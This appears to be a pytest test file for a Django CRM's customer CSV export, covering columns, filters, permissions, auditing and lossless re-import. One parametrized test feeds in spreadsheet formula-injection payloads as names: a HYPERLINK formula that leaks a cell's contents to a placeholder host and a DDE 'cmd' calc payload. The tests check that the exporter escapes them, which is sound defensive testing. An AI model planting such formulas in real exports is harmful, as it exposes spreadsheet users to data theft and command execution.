"""CSV export: the importer's columns, filters respected, permission and audit, and a re-import
of the export changes nothing."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.base import ContentFile

from apps.accounts.models import User
from apps.core.actors import SystemActor
from apps.core.exceptions import NotAllowed
from apps.core.models import AuditEntry
from apps.customers.importing.files import neutralize_formula, unescape_cell
from apps.customers.models import (
    ContactPoint,
    Customer,
    CustomFieldDefinition,
    CustomFieldType,
    ImportRowError,
)
from apps.customers.selectors import customer_filter
from apps.customers.services import imports
from apps.customers.services.customers import ContactInput, contact_point_set_consent, customer_create
from apps.customers.services.exports import customers_export_csv


@pytest.fixture
def people(db: None, marketer: User) -> list[Customer]:
    CustomFieldDefinition.objects.create(key="vip_since", label="VIP since", field_type=CustomFieldType.DATE)
    CustomFieldDefinition.objects.create(key="active", label="Active", field_type=CustomFieldType.BOOLEAN)
    ada = customer_create(
        actor=SystemActor("test setup"),
        first_name="Ada",
        last_name="Lovelace",
        organization_name="Engines",
        external_id="A1",
        lifecycle_stage="customer",
        owner=marketer,
        custom_fields={"vip_since": "2024-01-31", "active": True},
        contacts=[
            ContactInput(kind="phone", value="+14155550101"),
            ContactInput(kind="phone", value="+14155550102"),
            ContactInput(kind="email", value="ada@example.com"),
        ],
        tags=["vip", "beta"],
    )
    contact_point_set_consent(
        actor=SystemActor("test setup"),
        contact_point=ada.contact_points.get(value="+14155550101"),
        consent="do_not_call",
        value=True,
        source="call",
    )
    grace = customer_create(
        actor=SystemActor("test setup"),
        last_name="Hopper",
        contacts=[ContactInput(kind="email", value="grace@example.org")],
        custom_fields={"active": False},
    )
    return [ada, grace]


def export(actor: User | None, params: dict[str, str] | None = None) -> list[dict[str, str]]:
    out = io.StringIO()
    customers_export_csv(actor=actor, queryset=customer_filter(params or {}).order_by("id"), stream=out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_export_writes_the_columns_the_importer_reads(people: list[Customer], supervisor: User) -> None:
    rows = export(supervisor)

    assert rows[0] == {
        "external_id": "A1",
        "first_name": "Ada",
        "last_name": "Lovelace",
        "email": "ada@example.com",
        "email_2": "",
        "email_3": "",
        "phone": "'+14155550101",
        "phone_2": "'+14155550102",
        "phone_3": "",
        "organization": "Engines",
        "job_title": "",
        "lifecycle_stage": "customer",
        "time_zone": "America/Los_Angeles",
        "tags": "beta; vip",
        "owner": people[0].owner.username,  # type: ignore[union-attr]
        "do_not_call": "",
        "email_opt_out": "no",
        "sms_opt_in": "no",
        "custom:active": "yes",
        "custom:vip_since": "2024-01-31",
    }
    assert rows[1]["last_name"] == "Hopper"
    assert rows[1]["custom:active"] == "no"
    assert rows[1]["do_not_call"] == ""


def test_export_respects_the_list_filters(people: list[Customer], supervisor: User) -> None:
    assert [r["last_name"] for r in export(supervisor, {"tag": "vip"})] == ["Lovelace"]
    assert [r["last_name"] for r in export(supervisor, {"q": "grace@example.org"})] == ["Hopper"]
    assert [r["last_name"] for r in export(supervisor, {"dnc": "yes"})] == ["Lovelace"]


def test_export_is_audited_once(people: list[Customer], marketer: User) -> None:
    out = io.StringIO()

    written = customers_export_csv(
        actor=marketer, queryset=customer_filter({"tag": "vip"}), stream=out, filters={"tag": "vip"}
    )

    assert written == 1
    entry = AuditEntry.objects.get(action="customer.export_csv")
    assert (entry.actor, entry.data) == (marketer, {"filters": {"tag": "vip"}})


def test_agents_may_not_export(people: list[Customer], agent: User) -> None:
    with pytest.raises(NotAllowed):
        customers_export_csv(actor=agent, queryset=customer_filter({}), stream=io.StringIO())

    assert not AuditEntry.objects.filter(action="customer.export_csv").exists()


def test_reimporting_the_export_changes_nothing(people: list[Customer], supervisor: User) -> None:
    out = io.StringIO()
    customers_export_csv(actor=supervisor, queryset=customer_filter({}), stream=out)
    before = (
        list(Customer.objects.order_by("id").values()),
        list(ContactPoint.objects.order_by("id").values()),
        sorted(Customer.tags.through.objects.values_list("customer_id", "tag_id")),
    )

    job = imports.import_job_create(
        actor=supervisor,
        uploaded_file=ContentFile(out.getvalue().encode(), name="export.csv"),
        file_name="export.csv",
        source="test",
    )
    job = imports.import_job_run(job_id=job.pk)

    assert list(ImportRowError.objects.filter(job=job).values_list("reason", flat=True)) == []
    assert (job.created_count, job.updated_count, job.unchanged_count) == (0, 0, 2)
    after = (
        list(Customer.objects.order_by("id").values()),
        list(ContactPoint.objects.order_by("id").values()),
        sorted(Customer.tags.through.objects.values_list("customer_id", "tag_id")),
    )
    assert after == before


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"open")', '\'=HYPERLINK("http://x.example/?"&A1,"open")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("Ada = Countess", "Ada = Countess"),
        ("O'Brien", "O'Brien"),
    ],
)
def test_export_writes_formula_like_cells_as_text(stored: str, written: str, supervisor: User) -> None:
    # Given a customer whose name a spreadsheet would run as a formula
    customer_create(actor=SystemActor("test setup"), first_name=stored, last_name="Hopper", job_title=stored)

    # When it is exported
    rows = export(supervisor)

    # Then the cell starts with an apostrophe exactly when it would be a formula
    assert (rows[0]["first_name"], rows[0]["job_title"], rows[0]["last_name"]) == (written, written, "Hopper")


def test_cells_starting_with_tab_or_carriage_return_are_written_as_text() -> None:
    # Names are stripped when stored, but custom text fields and tags may keep them
    assert [neutralize_formula(v) for v in ("\t=1", "\r=1", "a\t=1", "")] == ["'\t=1", "'\r=1", "a\t=1", ""]
    assert [unescape_cell(v) for v in ("'\t=1", "'=1", "'a", "'")] == ["\t=1", "=1", "'a", "'"]


def test_reimporting_neutralized_cells_restores_the_values(supervisor: User) -> None:
    # Given customers exported with formula-like names and phones (written with an apostrophe)
    customer_create(
        actor=SystemActor("test setup"),
        first_name="=1+2",
        last_name="@home",
        contacts=[ContactInput(kind="phone", value="+14155550101")],
    )
    out = io.StringIO()
    customers_export_csv(actor=supervisor, queryset=customer_filter({}), stream=out)
    assert "'=1+2,'@home" in out.getvalue()
    before = list(Customer.objects.values("first_name", "last_name"))

    # When the export is imported again
    job = imports.import_job_create(
        actor=supervisor,
        uploaded_file=ContentFile(out.getvalue().encode(), name="export.csv"),
        file_name="export.csv",
        source="test",
    )
    job = imports.import_job_run(job_id=job.pk)

    # Then nothing changes: the apostrophes are read back as the export's escaping
    assert (job.created_count, job.updated_count, job.unchanged_count, job.rejected_count) == (0, 0, 1, 0)
    assert (
        list(Customer.objects.values("first_name", "last_name"))
        == before
        == [{"first_name": "=1+2", "last_name": "@home"}]
    )
